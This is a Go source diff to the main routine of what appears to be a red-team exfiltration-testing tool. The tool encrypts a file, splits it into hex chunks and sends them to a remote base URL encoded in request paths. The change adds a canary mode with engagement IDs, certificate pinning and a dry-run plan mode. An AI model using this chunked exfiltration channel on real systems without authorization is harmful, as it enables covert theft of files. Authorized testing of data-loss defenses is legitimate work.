@@ -1,10 +1,11 @@
 package main
 
 import (
+	"errors"
 	"fmt"
 	"fw/modules"
 	"log"
-	"path/filepath"
+	"os"
 	"time"
 )
 
@@ -17,117 +18,58 @@ func main() {
 
 	// Set verbose mode globally
 	modules.SetVerbose(args.Verbose)
+	if err := modules.SetPinnedFingerprint(args.Pin); err != nil {
+		log.Fatalf("Error: %v", err)
+	}
 
 	// Get arguments
 	filePath := args.FilePath
 	encryptionKey := args.EncryptionKey
 	baseURL := args.BaseURL
 
-	fmt.Println("Encrypting file...")
-	encryptedData, err := modules.EncryptFile(filePath, encryptionKey)
-	if err != nil {
-		log.Fatalf("Encryption failed: %v", err)
+	// In canary mode a synthetic payload stands in for real data
+	if args.CanarySize > 0 {
+		fmt.Printf("Generating %d byte canary for engagement %s...\n", args.CanarySize, args.Manifest.EngagementID)
+		filePath, err = modules.WriteCanaryFile(args.Manifest.EngagementID, args.CanarySize)
+		if err != nil {
+			log.Fatalf("Canary generation failed: %v", err)
+		}
+		defer os.Remove(filePath)
 	}
 
-	// Get filename without path
-	fileName := filepath.Base(filePath)
-
-	// Calculate unique ID for this file transfer
-	transferID := modules.CalculateMD5(encryptedData)
-
-	// Split hex string into smaller chunks
-	chunkSize := modules.CalculateOptimalChunkSize(encryptedData)
-	chunks := modules.SplitHexString(encryptedData, chunkSize)
-	totalChunks := len(chunks)
-	fmt.Printf("File: %s (Transfer ID: %s)\n", fileName, transferID)
-	fmt.Printf("Split into %d chunks (chunk size: %d chars)\n", totalChunks, chunkSize)
-
-	// Send initialization request
-	fmt.Print("Initializing transfer... ")
-	initPath := fmt.Sprintf("init/%s/%d/%d/%s",
-		transferID, totalChunks, len(encryptedData), fileName)
-
-	modules.DebugPrintf("Init path length: %d characters\n", len(initPath))
-
-	err = modules.SendRequest(baseURL, initPath)
+	fmt.Println("Encrypting file...")
+	plan, err := modules.NewPlan(filePath, baseURL, args.StatusURL, args.Manifest.EngagementID, encryptionKey)
 	if err != nil {
-		fmt.Println("Failed!")
-		log.Fatalf("Failed to initialize transfer: %v", err)
+		log.Fatalf("Planning failed: %v", err)
 	}
-	fmt.Println("Done!")
-
-	// Process each chunk
-	transferStartTime := time.Now()
-
-	// Initialize progress bar
-	modules.UpdateProgressInPlace(0, totalChunks, transferStartTime)
-
-	for i, chunk := range chunks {
-		// Create path for this chunk
-		chunkChecksum := modules.CalculateMD5(chunk)
-		chunkPath := fmt.Sprintf("chunk/%s/%d/%s/%s",
-			transferID, i, chunkChecksum, chunk)
-
-		if modules.Verbose && len(chunkPath) > modules.MaxPayloadLength {
-			fmt.Printf("\nWarning: Chunk %d path exceeds maximum length: %d > %d\n",
-				i+1, len(chunkPath), modules.MaxPayloadLength)
+	fmt.Printf("File: %s (Transfer ID: %s)\n", plan.FileName, plan.TransferID)
+	fmt.Printf("Split into %d chunks (chunk size: %d chars)\n", plan.Chunks, plan.ChunkSize)
+
+	// Plan mode stops here, before any network I/O
+	if args.Plan || args.PlanJSON != "" {
+		if args.Plan {
+			fmt.Println()
+			plan.Print(os.Stdout)
 		}
-
-		// Try to send with retries
-		maxRetries := 3
-		success := false
-
-		for attempt := 1; attempt <= maxRetries; attempt++ {
-			modules.UpdateProgressInPlace(i+1, totalChunks, transferStartTime)
-
-			err := modules.SendRequest(baseURL, chunkPath)
-			if err == nil {
-				success = true
-				break
-			}
-
-			if attempt < maxRetries {
-				modules.DebugPrintf("\nRetry %d/%d: %v\n", attempt, maxRetries, err)
-				modules.UpdateProgressInPlace(i+1, totalChunks, transferStartTime)
-				time.Sleep(time.Duration(attempt) * time.Second)
-			} else {
-				modules.UpdateProgressInPlace(i+1, totalChunks, transferStartTime)
+		if args.PlanJSON != "" {
+			if err := plan.WriteJSON(args.PlanJSON); err != nil {
+				log.Fatalf("Failed to write plan: %v", err)
 			}
 		}
-
-		if !success {
-			fmt.Println("\nFailed to send chunk after multiple attempts")
-			return
-		}
-
-		// Update progress
-		modules.UpdateProgressInPlace(i+1, totalChunks, transferStartTime)
-
-		// Small delay between chunks
-		if i < totalChunks-1 {
-			time.Sleep(500 * time.Millisecond)
-		}
+		return
 	}
 
-	// Final progress update
-	modules.UpdateProgressInPlace(totalChunks, totalChunks, transferStartTime)
-	fmt.Println()
-
-	// Send completion request
-	fmt.Print("Finalizing transfer... ")
-	completePath := fmt.Sprintf("complete/%s/%s",
-		transferID, modules.CalculateMD5(encryptedData))
-
-	err = modules.SendRequest(baseURL, completePath)
-	if err != nil {
-		fmt.Println("Failed!")
-		log.Printf("Warning: Failed to send completion notification: %v", err)
-	} else {
-		fmt.Println("Done!")
+	// Send exactly the planned requests
+	transferStartTime := time.Now()
+	err = modules.SendPlan(plan, modules.ChunkDelay, true)
+	if errors.Is(err, modules.ErrCompletionFailed) {
+		log.Printf("Warning: %v", err)
+	} else if err != nil {
+		log.Fatalf("Error: %v", err)
 	}
 
 	// Print transfer summary
 	totalDuration := time.Since(transferStartTime)
-	fmt.Printf("\nFile %s uploaded successfully!\n", fileName)
+	fmt.Printf("\nFile %s uploaded successfully!\n", plan.FileName)
 	fmt.Printf("Total transfer time: %s\n", modules.FormatDuration(totalDuration))
 }